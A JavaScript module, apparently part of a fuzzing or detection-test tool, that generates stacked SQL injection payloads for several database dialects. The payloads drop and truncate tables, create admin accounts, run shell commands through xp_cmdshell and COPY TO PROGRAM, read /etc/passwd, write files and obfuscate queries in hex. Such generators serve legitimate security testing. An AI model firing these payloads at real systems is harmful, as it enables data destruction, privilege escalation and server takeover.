import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** A second statement after the first. */
export const stacked = sqlGenerator({
  name: 'stacked',
  places: WHERE_PLACES,
  rules: {
    start: [
      '{open};{statement}{comment}',
      '{open}; {statement} {comment}',
      '{open};{statement};{comment}',
      '{open} ; {statement}; {comment}',
    ],
    any: [
      'DROP TABLE {table2}',
      'drop table messages',
      "INSERT INTO users(name,password,role) VALUES('{tag}','{tag}','admin')",
      "UPDATE users SET password='{tag}' WHERE name='admin'",
      "update users set role='admin'",
      'DELETE FROM users',
      'DELETE FROM messages WHERE 1=1',
      'SELECT * FROM users',
      'CREATE TABLE {tag} (a text)',
      'ALTER TABLE users ADD {tag} text',
      'SELECT {version}',
    ],
    table2: ['messages', 'products', 'IF EXISTS users'],
    statement: ['{any}'],
  },
  byDialect: {
    mysql: {
      statement: [
        '{any}',
        '{any}',
        'SELECT SLEEP({sec})',
        'SET @a=0x73656c6563742031; PREPARE s FROM @a; EXECUTE s',
        'SELECT {all} INTO @{tag}',
        'SHOW TABLES',
        'RENAME TABLE messages TO {tag}',
        'TRUNCATE TABLE messages',
        "SELECT {secret} INTO OUTFILE '/tmp/{tag}'",
        'CALL mysql.{tag}()',
        'DO SLEEP({sec})',
        'HANDLER users OPEN; HANDLER users READ FIRST',
      ],
    },
    postgres: {
      statement: [
        '{any}',
        '{any}',
        'SELECT PG_SLEEP({sec})',
        'DO $$ BEGIN PERFORM pg_sleep({sec}); END $$',
        "COPY users TO PROGRAM 'id'",
        "CREATE TABLE {tag:a}(t text); COPY {tag:a} FROM '/etc/passwd'",
        "SELECT lo_import('/etc/passwd')",
        'CREATE OR REPLACE FUNCTION {tag}() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql',
        "SELECT pg_read_file('/etc/passwd')",
        'VALUES ({all})',
        'TABLE users',
      ],
    },
    sqlite: {
      statement: [
        '{any}',
        '{any}',
        'SELECT {sleep}',
        "ATTACH DATABASE '/tmp/{tag}.php' AS {tag}",
        'PRAGMA table_info(users)',
        'VACUUM',
        "REPLACE INTO users(id,name,password) VALUES(1,'{tag}','x')",
        "SELECT writefile('/tmp/{tag}','x')",
        'WITH t AS (SELECT 1) SELECT * FROM t',
      ],
    },
    mssql: {
      statement: [
        '{any}',
        "EXEC xp_cmdshell 'whoami'",
        "EXEC master..xp_cmdshell 'ping {tag}.example.com'",
        "EXEC sp_configure 'show advanced options',1;RECONFIGURE",
        'DECLARE @q VARCHAR(99);SET @q=0x73656c656374;EXEC(@q)',
        'SHUTDOWN',
        'TRUNCATE TABLE messages',
        "exec('sel'+'ect 1')",
        'SELECT * INTO {tag} FROM users',
        "WAITFOR DELAY '0:0:{sec}'",
        "EXEC sp_addsrvrolemember '{tag}','sysadmin'",
      ],
    },
    oracle: {
      statement: [
        '{any}',
        "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
        'BEGIN DBMS_LOCK.SLEEP({sec}); END;',
        'BEGIN USER_LOCK.SLEEP({sec}); END;',
      ],
    },
  },
});
